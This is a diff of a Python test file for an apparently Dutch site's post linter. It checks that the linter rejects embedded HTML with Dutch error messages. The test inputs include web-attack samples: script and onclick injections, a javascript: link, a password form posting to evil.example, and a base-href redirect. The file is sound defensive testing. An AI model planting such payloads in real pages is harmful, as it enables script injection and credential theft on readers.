@@ -336,6 +336,67 @@ MISTAKES = [
         )
         for written in ("-[ ] ", "- ", "- [x] ", "[ ] ")
     ),
+    (
+        "a frame",
+        in_body('<iframe src="https://x.nl/v"></iframe>'),
+        f"content/{POST}:10: fout: een ingesloten frame (<iframe>) kan niet op de "
+        "site (zet er een gewone link neer, zoals [Bekijk de video](https://...))",
+    ),
+    (
+        "a script",
+        in_body("<script>alert(1)</script>"),
+        f"content/{POST}:10: fout: een script (<script>) kan niet in een post (haal "
+        "het weg; werkbladen, checklists en formulieren komen van de site zelf)",
+    ),
+    (
+        "an inline style",
+        in_body('<p style="color:red">Rood</p>'),
+        f"content/{POST}:10: fout: eigen opmaak (style=) kan niet in een post (haal "
+        "het weg; de site verzorgt de opmaak: gebruik **vet**, *schuin* of ## koppen)",
+    ),
+    (
+        "an event handler",
+        in_body('<p onclick="go()">Klik</p>'),
+        f"content/{POST}:10: fout: de code onclick=... kan niet in een post (haal het "
+        "weg; een gewone link werkt zonder code)",
+    ),
+    (
+        "a form that posts to another site",
+        in_body('<form action="https://evil.example/steel">Wachtwoord</form>'),
+        f"content/{POST}:10: fout: de HTML-code <form> kan niet in een post (haal "
+        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
+        "formulieren komen van de site zelf)",
+    ),
+    (
+        "a base address and a refresh",
+        in_body('<base href="https://evil.example/"><meta http-equiv="refresh">'),
+        f"content/{POST}:10: fout: de HTML-code <base> kan niet in een post (haal "
+        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
+        "formulieren komen van de site zelf)\n"
+        f"content/{POST}:10: fout: de HTML-code <meta> kan niet in een post (haal "
+        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
+        "formulieren komen van de site zelf)",
+    ),
+    (
+        "a javascript: link",
+        in_body("[Klik](javascript:alert(1))"),
+        f"content/{POST}:10: fout: een adres dat begint met javascript: kan niet in "
+        "een post (gebruik een webadres dat begint met https://, of mailto: voor "
+        "e-mail)",
+    ),
+    (
+        "an attribute Markdown does not make",
+        in_body('<a href="https://x.nl/" target="_blank">X</a>'),
+        f"content/{POST}:10: fout: de HTML-code target=... kan niet in een post (haal "
+        "het weg; de site geeft links en afbeeldingen zelf wat ze nodig hebben)",
+    ),
+    (
+        "a form in the summary",
+        edit(POST, "Summary: ", 'Summary: <form action="https://evil.example/"> '),
+        f"content/{POST}:6: fout: de HTML-code <form> kan niet in een post (haal "
+        "het weg; schrijf tekst, koppen, lijsten, links en afbeeldingen in Markdown, "
+        "formulieren komen van de site zelf)",
+    ),
 ]
 
 
@@ -403,30 +464,6 @@ CHECK_ONLY = [
         f"content/{POST}:10: fout: deze regel hoort bij de velden bovenaan: onder de "
         "lege regel komt Status: als tekst op de pagina (zet hem bij de velden "
         "bovenaan, boven de eerste lege regel)",
-    ),
-    (
-        "a frame",
-        in_body('<iframe src="https://x.nl/v"></iframe>'),
-        f"content/{POST}:10: fout: een ingesloten frame (<iframe>) kan niet op de "
-        "site (zet er een gewone link neer, zoals [Bekijk de video](https://...))",
-    ),
-    (
-        "a script",
-        in_body("<script>alert(1)</script>"),
-        f"content/{POST}:10: fout: een script (<script>) kan niet in een post (haal "
-        "het weg; werkbladen, checklists en formulieren komen van de site zelf)",
-    ),
-    (
-        "an inline style",
-        in_body('<p style="color:red">Rood</p>'),
-        f"content/{POST}:10: fout: eigen opmaak (style=) kan niet in een post (haal "
-        "het weg; de site verzorgt de opmaak: gebruik **vet**, *schuin* of ## koppen)",
-    ),
-    (
-        "an event handler",
-        in_body('<p onclick="go()">Klik</p>'),
-        f"content/{POST}:10: fout: de code onclick=... kan niet in een post (haal het "
-        "weg; een gewone link werkt zonder code)",
     ),
 ]
 
